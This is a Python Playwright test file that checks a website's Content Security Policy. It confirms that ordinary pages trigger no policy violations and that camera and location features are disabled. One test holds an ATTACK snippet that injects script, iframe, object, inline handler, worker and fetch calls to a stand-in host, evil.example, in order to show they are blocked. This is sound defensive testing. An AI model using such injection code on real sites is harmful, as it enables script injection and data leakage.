"""What the browser may do on a page: all that the page does, and nothing from elsewhere."""

import pytest

from lib.figures import FIGURES
from tests.browser.visit import PAGES, open_page

pytestmark = pytest.mark.browser
WATCH = """addEventListener("securitypolicyviolation", (it) =>
  (window.refused ??= []).push(`${it.violatedDirective} ${it.blockedURI} ${it.sample}`))"""
REFUSED = "() => window.refused ?? []"
MORE = (
    "/teach",
    "/teach?streamlit",
    "/talk",
    "/worksheet?level=15-18&seed=7",
    "/figure/pressure?stage",
    "/nothing",
)


def unfold_all(page):
    """Open all that is folded, explorations with Plotly too, and every figure's panel."""
    page.evaluate("document.querySelectorAll('details').forEach(it => it.open = 1)")
    for name in ("Table", "Take it with you"):
        for button in page.get_by_role("button", name=name, exact=True).all():
            button.click()
    for place in page.locator(".tm-explore-place").all():
        place.locator(".js-plotly-plot").first.wait_for(timeout=60_000)


@pytest.mark.parametrize("path", [*PAGES, *(f"{path}?streamlit" for path in ("/", "/debris_primer"))])
def test_nothing_that_a_page_does_is_refused(watched, site, path):
    watched.add_init_script(WATCH)
    open_page(watched, site + path)
    unfold_all(watched)
    watched.wait_for_timeout(300)
    assert watched.evaluate(REFUSED) == []
    assert watched.faults == []


@pytest.mark.parametrize("path", [*MORE, *(f"/figure/{name}" for name in FIGURES)])
def test_nothing_that_stands_alone_is_refused(watched, site, path):
    watched.add_init_script(WATCH)
    watched.goto(site + path)
    watched.wait_for_load_state("networkidle")
    assert watched.evaluate(REFUSED) == []
    assert [fault for fault in watched.faults if "404" not in fault] == []


ATTACK = """async () => {
  const put = (name, fields) => document.body.append(
    Object.assign(document.createElement(name), fields));
  put("script", { textContent: "window.ran = 1" });
  put("script", { src: "https://evil.example/x.js" });
  put("script", { src: "data:text/javascript,window.ran=1" });
  put("img", { src: "https://evil.example/x.png" });
  put("iframe", { src: "https://evil.example/" });
  put("object", { data: "https://evil.example/x.swf" });
  document.body.insertAdjacentHTML("beforeend", "<b onclick='window.ran = 1' id=evil>x</b>");
  document.querySelector("#evil").click();
  try { new Worker(URL.createObjectURL(new Blob(["0"]))); } catch { /* Refused at once. */ }
  await fetch("https://evil.example/").catch(() => 0);
}"""
KINDS = {
    "script-src-elem",
    "script-src-attr",
    "img-src",
    "frame-src",
    "object-src",
    "connect-src",
    "worker-src",
}


@pytest.mark.parametrize("path", ["/hole_and_patch", "/figure/pressure", "/teach?streamlit"])
def test_what_comes_from_elsewhere_is_refused(page, site, path):
    """Were markup of a stranger ever let in, it could neither run nor tell."""
    page.add_init_script(WATCH)
    page.goto(site + path)
    page.evaluate(ATTACK)
    page.wait_for_function("() => (window.refused ?? []).length >= 9")
    assert {line.split()[0] for line in page.evaluate(REFUSED)} >= KINDS
    assert page.evaluate("window.ran") is None


def test_no_page_may_use_camera_or_place(page, site):
    page.goto(site)
    allowed = page.evaluate("document.featurePolicy.allowedFeatures()")
    assert not {"camera", "microphone", "geolocation", "payment", "usb"} & set(allowed)
    assert "fullscreen" in allowed
